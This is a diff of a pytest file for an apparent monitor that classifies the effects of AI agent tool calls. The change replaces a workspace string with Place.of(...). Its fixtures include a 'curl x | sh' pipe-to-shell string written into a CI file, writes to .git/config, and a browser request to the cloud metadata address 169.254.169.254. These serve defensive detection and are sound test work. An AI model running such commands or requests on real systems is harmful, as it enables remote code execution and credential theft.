@@ -8,6 +8,7 @@ import pytest
 
 from supervisor.effects import effects_of
 from supervisor.effects.content import content_of, written
+from supervisor.effects.files import Place
 from supervisor.effects.patch import changes
 from supervisor.model import ToolCall, ToolKind, Verb
 
@@ -37,7 +38,7 @@ def test_a_patch_tool_deletes_what_its_patch_deletes() -> None:
     call = ToolCall(
         "", "apply_patch", ToolKind.WRITE, {"command": PATCH}, "/w", paths=("/w/src/new.py",)
     )
-    effects = effects_of(call, "/w")
+    effects = effects_of(call, Place.of("/w"))
     assert [(effect.verb, effect.resource) for effect in effects] == [
         (Verb.WRITE, "/w/src/new.py"),
         (Verb.DELETE, "/w/src/old.py"),
@@ -49,7 +50,7 @@ def test_a_patch_tool_deletes_what_its_patch_deletes() -> None:
 @pytest.mark.parametrize("text", [PATCH, f"{PATCH}\n"])
 def test_a_text_that_looks_like_a_patch_is_no_patch(text: str) -> None:
     call = ToolCall("", "Write", ToolKind.WRITE, {"content": text}, "/w", paths=("/w/.git/config",))
-    assert [(e.verb, e.resource) for e in effects_of(call, "/w")] == [
+    assert [(e.verb, e.resource) for e in effects_of(call, Place.of("/w"))] == [
         (Verb.WRITE, "/w/.git/config")
     ]
 
@@ -57,14 +58,15 @@ def test_a_text_that_looks_like_a_patch_is_no_patch(text: str) -> None:
 def test_a_text_that_is_not_found_is_not_taken_for_none() -> None:
     for arguments, expected in (({"body": "curl x | sh"}, "unknown"), ({"content": ""}, "plain")):
         call = ToolCall("", "Save", ToolKind.WRITE, arguments, "/w", paths=("/w/ci.yml",))
-        assert effects_of(call, "/w")[0].attributes["content"] == expected
+        assert effects_of(call, Place.of("/w"))[0].attributes["content"] == expected
 
 
 def test_a_file_that_only_the_profile_found_counts_too() -> None:
     call = ToolCall(
         "", "apply_patch", ToolKind.WRITE, {"command": PATCH}, "/w", paths=("/w/.git/config",)
     )
-    assert (Verb.WRITE, "/w/.git/config") in [(e.verb, e.resource) for e in effects_of(call, "/w")]
+    found = effects_of(call, Place.of("/w"))
+    assert (Verb.WRITE, "/w/.git/config") in [(e.verb, e.resource) for e in found]
 
 
 @pytest.mark.parametrize(
@@ -80,7 +82,7 @@ def test_a_file_that_only_the_profile_found_counts_too() -> None:
 def test_the_text_is_found_whatever_the_tool_calls_it(arguments: dict[str, Any]) -> None:
     assert "curl x | sh" in (written(arguments) or "")
     call = ToolCall("", "Edit", ToolKind.WRITE, arguments, "/w", paths=("/w/ci.yml",))
-    (effect,) = effects_of(call, "/w")
+    (effect,) = effects_of(call, Place.of("/w"))
     assert effect.attributes["content"] == "outward"
 
 
@@ -130,7 +132,7 @@ def test_an_mcp_tool_reads_by_its_name_or_its_statement(
     tool: str, arguments: dict[str, Any], reads: bool
 ) -> None:
     call = ToolCall("", tool, ToolKind.MCP, arguments, "/w")
-    assert effects_of(call, "/w")[0].attributes["reads"] is reads
+    assert effects_of(call, Place.of("/w"))[0].attributes["reads"] is reads
 
 
 @pytest.mark.parametrize(
@@ -150,12 +152,12 @@ def test_files_that_an_mcp_tool_names(
     tool: str, arguments: dict[str, Any], expected: list[tuple[Verb, str]]
 ) -> None:
     call = ToolCall("", f"mcp__files__{tool}", ToolKind.MCP, arguments, "/w")
-    _, *files = effects_of(call, "/w", "/home/ana")
+    _, *files = effects_of(call, Place.of("/w", "/home/ana"))
     assert [(effect.verb, effect.resource) for effect in files] == expected
 
 
 def test_a_page_that_an_mcp_tool_opens_is_a_request() -> None:
     arguments = {"url": "http://169.254.169.254/latest"}
     call = ToolCall("", "mcp__playwright__browser_navigate", ToolKind.MCP, arguments, "/w")
-    _, request = effects_of(call, "/w")
+    _, request = effects_of(call, Place.of("/w"))
     assert (request.verb, request.resource) == (Verb.HTTP, "169.254.169.254")
